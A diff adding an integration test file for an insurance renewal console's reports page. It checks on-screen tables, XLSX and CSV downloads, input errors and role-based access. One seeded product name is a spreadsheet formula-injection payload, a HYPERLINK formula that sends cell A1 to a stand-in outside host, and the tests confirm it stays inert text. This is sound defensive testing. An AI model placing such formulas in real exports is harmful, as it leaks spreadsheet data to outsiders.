@@ -1,0 +1,215 @@
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { SESSION_COOKIE, LANGUAGE_COOKIE } from '../../console/server';
+import { shanghaiInstant } from '../../domain/civil-date';
+import { dailyReport } from '../../reports/daily';
+import { monthlyReport } from '../../reports/monthly';
+import { reinstatementReport } from '../../reports/reinstatement';
+import type { TabularReport } from '../../reports/report';
+import { cellText, reportCsv, UTF8_BOM } from '../../reports/report-output';
+import { consolePerson, consoleRig, signedIn, type ConsoleRig } from '../support/console';
+import { freshDatabase, type TestDatabase } from '../support/database';
+import { seedReportOrganisation } from '../support/report-organisation';
+
+/**
+ * The reports page (docs/architecture.md#console): the CLI's report builders on screen, the CLI's
+ * writers as downloads, the CLI's permission and scope rules. January 2026 on real PostgreSQL:
+ *
+ * | policy | product | branch | agent | due        | fen    | what happened                          |
+ * | R01    | WL20    | 3201   | A001  | 2026-01-05 | 100000 | debit ICBC attempt 1 ok, paid 01-05    |
+ * | R02    | EVIL    | 3201   | A001  | 2026-01-10 | 200000 | debit CCB attempt 1 failed; counter 02-03 |
+ * | R03    | WL20    | 3202   | A002  | 2026-01-20 | 300000 | unpaid                                 |
+ *
+ * Product EVIL is named like a formula, so the downloads must keep it text.
+ */
+const at = (date: string, time = '00:00') => new Date(shanghaiInstant(date, time));
+const EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"查看")';
+const PERIOD = 'month=2026-01&asOf=2026-03-31';
+
+let t: TestDatabase;
+let rig: ConsoleRig;
+
+beforeAll(async () => {
+  t = await freshDatabase();
+  rig = await consoleRig(t.db);
+  const customer = await seedReportOrganisation(t.db);
+  await t.db('products').insert({ code: 'EVIL', name: EVIL_NAME, grace_days: 60 });
+  const policies = [
+    ['R01', 'WL20', '3201', 'A001'],
+    ['R02', 'EVIL', '3201', 'A001'],
+    ['R03', 'WL20', '3202', 'A002'],
+  ] as const;
+  await t.db('policies').insert(
+    policies.map(([no, product, branch, agent]) => ({ policy_no: no, product_code: product, branch_code: branch, channel: 'agency', agent_code: agent, holder_customer_id: customer, issue_date: '2020-01-01', payment_frequency: 'annual', premium_fen: 1, next_installment_no: 3, status: 'in_force' })),
+  );
+  const ids = new Map<string, number>();
+  for (const [no, due, fen, status] of [
+    ['R01', '2026-01-05', 100000, 'paid'],
+    ['R02', '2026-01-10', 200000, 'paid'],
+    ['R03', '2026-01-20', 300000, 'due'],
+  ] as const) {
+    const [row] = await t.db('premium_dues').insert({ policy_no: no, due_date: due, installment_no: 2, amount_fen: fen, status }).returning<{ id: number }[]>('id');
+    ids.set(no, row!.id);
+  }
+  await t.db('payments').insert([
+    { premium_due_id: ids.get('R01'), amount_fen: 100000, via: 'debit', reference: 'REF1', received_at: at('2026-01-05', '10:00') },
+    { premium_due_id: ids.get('R02'), amount_fen: 200000, via: 'counter', reference: 'REF2', received_at: at('2026-02-03', '10:00') },
+  ]);
+  const attempt = (no: string, bank: string, date: string, status: string, resolved: Date, reason: string | null) => ({
+    premium_due_id: ids.get(no),
+    attempt_no: 1,
+    idempotency_key: `RNW${ids.get(no)}A1`,
+    bank_code: bank,
+    amount_fen: no === 'R01' ? 100000 : 200000,
+    collection_date: date,
+    status,
+    reason,
+    resolved_at: resolved,
+    workflow_id: `renewal-${no}`,
+    run_id: 'r',
+    activity_id: 'a',
+  });
+  await t.db('debit_attempts').insert([attempt('R01', 'ICBC', '2026-01-05', 'succeeded', at('2026-01-05', '10:00'), null), attempt('R02', 'CCB', '2026-01-10', 'failed', at('2026-01-10', '11:00'), 'INSUFFICIENT_FUNDS')]);
+
+  await consolePerson(t.db, 'ops-lead', ['operations_lead']);
+  await consolePerson(t.db, 'lead-t1', ['team_lead'], [{ kind: 'team', value: 'T1' }]);
+  await consolePerson(t.db, 'collector', ['collector']);
+});
+
+afterAll(async () => {
+  await rig?.app.close();
+  await t?.drop();
+});
+
+async function get(login: string, url: string, language?: string) {
+  const session = await signedIn(rig.app, login);
+  return rig.app.inject({ method: 'GET', url, cookies: { [SESSION_COOKIE]: session, ...(language ? { [LANGUAGE_COOKIE]: language } : {}) } });
+}
+
+const UNESCAPE: Record<string, string> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#39;': "'" };
+const unescape = (text: string) => text.replace(/&(amp|lt|gt|quot|#39);/g, (m) => UNESCAPE[m]!);
+
+/** The cells of the page's table for one section, row by row, as text. */
+function tableOf(body: string, key: string): string[][] {
+  const table = new RegExp(`<table id="section-${key}">([\\s\\S]*?)</table>`).exec(body);
+  if (!table) throw new Error(`no table for section ${key}`);
+  const tbody = /<tbody>([\s\S]*)<\/tbody>/.exec(table[1]!)![1]!;
+  return [...tbody.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) => [...row[1]!.matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((cell) => unescape(cell[1]!)));
+}
+
+/** The builder's report as the CLI's table prints each cell. */
+function expectedCells(report: TabularReport, key: string): string[][] {
+  const section = report.sections.find((s) => s.key === key)!;
+  return section.rows.map((row) => section.columns.map((c) => cellText(c.kind, row[c.key] ?? null)));
+}
+
+describe('reports page', () => {
+  it('lists the reports the person may have, and the nav links to it', async () => {
+    const response = await get('ops-lead', '/reports');
+    expect(response.statusCode).toBe(200);
+    expect(response.body).toContain('<a href="/reports" aria-current="page">报表</a>');
+    for (const kind of ['daily', 'weekly', 'monthly', 'lapse-reasons', 'reinstatement', 'lapsed']) expect(response.body).toContain(`action="/reports/${kind}"`);
+    expect(response.body).not.toMatch(/<script(?![^>]*src="\/console\.js")/);
+  });
+
+  it('shows the monthly report with the figures of the builder the CLI uses, section by section', async () => {
+    const response = await get('ops-lead', `/reports/monthly?${PERIOD}`);
+    expect(response.statusCode).toBe(200);
+    const built = await monthlyReport(t.db, '2026-01', { asOf: '2026-03-31' });
+    expect(built.sections.length).toBeGreaterThan(3);
+    for (const section of built.sections) {
+      if (section.rows.length === 0) expect(response.body).toContain(`id="section-${section.key}-none"`);
+      else expect(tableOf(response.body, section.key), section.key).toEqual(expectedCells(built, section.key));
+    }
+    // Hand-checked: 3 cases, 6000.00 due; by 当月 one case (1000.00) collected: 16.67% by premium.
+    expect(tableOf(response.body, 'collection')[0]).toEqual(['当月 end of due month', '2026-01-31', 'yes', '3', '1', '33.33%', '6000.00', '1000.00', '16.67%']);
+    expect(response.body).toContain('href="/reports/monthly.xlsx?month=2026-01&amp;asOf=2026-03-31"');
+    expect(response.body).toContain('href="/reports/monthly.csv?month=2026-01&amp;asOf=2026-03-31"');
+  });
+
+  it('the XLSX download is the CLI writer’s workbook and parses back with the same figures; formula-like names stay text', async () => {
+    const response = await get('ops-lead', `/reports/monthly.xlsx?${PERIOD}`);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(response.headers['content-disposition']).toBe('attachment; filename="monthly_2026-01_2026-03-31.xlsx"');
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    const collection = book.getWorksheet('collection')!;
+    expect(collection.getRow(2).values).toEqual([undefined, '当月 end of due month', '2026-01-31', 'yes', 3, 1, 0.333333, 6000, 1000, 0.166667]);
+    const product = book.getWorksheet('product')!;
+    const cells = product.getColumn(2).values.filter((v) => v !== undefined && v !== null);
+    expect(cells).toContain(EVIL_NAME);
+    product.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+  });
+
+  it('the CSV download starts with the BOM and title the CLI writer gives, and keeps formula-like names inert', async () => {
+    const response = await get('ops-lead', `/reports/monthly.csv?${PERIOD}`);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toBe('attachment; filename="monthly_2026-01_2026-03-31.csv"');
+    const built = await monthlyReport(t.db, '2026-01', { asOf: '2026-03-31' });
+    const cli = reportCsv(built);
+    expect(response.body.startsWith(UTF8_BOM)).toBe(true);
+    // Everything but the generatedAt line is the CLI writer's text.
+    const withoutTime = (text: string) => text.replace(/^generatedAt,.*$/m, 'generatedAt');
+    expect(withoutTime(response.body)).toBe(withoutTime(cli));
+    expect(response.body.split('\r\n')[0]).toBe(`${UTF8_BOM}续期收费月报 Monthly renewal collection report 2026-01`);
+    expect(response.body).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""查看"")"`);
+  });
+
+  it('the daily report matches its builder too', async () => {
+    const response = await get('ops-lead', '/reports/daily?date=2026-01-10');
+    expect(response.statusCode).toBe(200);
+    const built = await dailyReport(t.db, '2026-01-10');
+    expect(tableOf(response.body, 'debits_by_bank')).toEqual(expectedCells(built, 'debits_by_bank'));
+    expect(tableOf(response.body, 'debits_by_bank')).toEqual([['CCB', '0', '1', '0', '0.00%', '0.00']]);
+  });
+
+  it('a bad period is a 400 naming the field, in the person’s words; the form shows it again', async () => {
+    const month = await get('ops-lead', '/reports/monthly?month=2026-13');
+    expect(month.statusCode).toBe(400);
+    expect(month.body).toContain('字段 month（月份（YYYY-MM））格式不正确，收到“2026-13”。');
+    expect(month.body).toMatch(/id="monthly-month" name="month"[^>]*value="2026-13" aria-invalid="true"/);
+    const week = await get('ops-lead', '/reports/weekly.csv?week=2026-W60', 'en');
+    expect(week.statusCode).toBe(400);
+    expect(week.body).toContain('Field week (ISO week (YYYY-Www)) is not valid; got &quot;2026-W60&quot;.');
+    const order = await get('ops-lead', '/reports/reinstatement?from=2026-03&to=2026-01', 'en');
+    expect(order.statusCode).toBe(400);
+    expect(order.body).toContain('Field to (Last month (YYYY-MM)): &quot;2026-01&quot; is before the first month.');
+    const asOf = await get('ops-lead', '/reports/monthly.xlsx?month=2026-03&asOf=2026-02-01');
+    expect(asOf.statusCode).toBe(400);
+    expect(asOf.body).toContain('字段 asOf');
+    const none = await get('ops-lead', '/reports/daily.xlsx');
+    expect(none.statusCode).toBe(400);
+    expect(none.body).toContain('字段 date');
+  });
+
+  it('refuses roles without the report permission (403), and a scoped person the insurer’s own figures', async () => {
+    expect((await get('collector', '/reports')).statusCode).toBe(403);
+    expect((await get('collector', `/reports/monthly?${PERIOD}`)).statusCode).toBe(403);
+    expect((await get('collector', `/reports/monthly.xlsx?${PERIOD}`)).statusCode).toBe(403);
+    expect((await get('collector', '/')).body).not.toContain('href="/reports"');
+    expect((await get('lead-t1', `/reports/monthly.csv?${PERIOD}`)).statusCode).toBe(403);
+    expect((await get('lead-t1', '/reports/daily?date=2026-01-10')).statusCode).toBe(403);
+    const index = await get('lead-t1', '/reports');
+    expect(index.statusCode).toBe(200);
+    expect(index.body).toContain('action="/reports/reinstatement"');
+    expect(index.body).not.toContain('action="/reports/monthly"');
+  });
+
+  it('a scoped report is computed for the person’s scope and names it', async () => {
+    const response = await get('lead-t1', '/reports/reinstatement?from=2026-01&to=2026-01&asOf=2026-03-31');
+    expect(response.statusCode).toBe(200);
+    const built = await reinstatementReport(t.db, { from: '2026-01', to: '2026-01', asOf: '2026-03-31', scopes: [{ kind: 'team', value: 'T1' }] });
+    expect(tableOf(response.body, 'months')).toEqual(expectedCells(built, 'months'));
+    expect(response.body).toContain('<dd data-parameter="scope">team:T1</dd>');
+  });
+
+  it('an unknown report is a 404; signed out goes to sign-in', async () => {
+    expect((await get('ops-lead', '/reports/yearly')).statusCode).toBe(404);
+    expect((await get('ops-lead', '/reports/monthly.pdf?month=2026-01')).statusCode).toBe(404);
+    const out = await rig.app.inject({ method: 'GET', url: `/reports/monthly.xlsx?${PERIOD}` });
+    expect(out.statusCode).toBe(303);
+    expect(out.headers.location).toBe('/sign-in');
+  });
+});
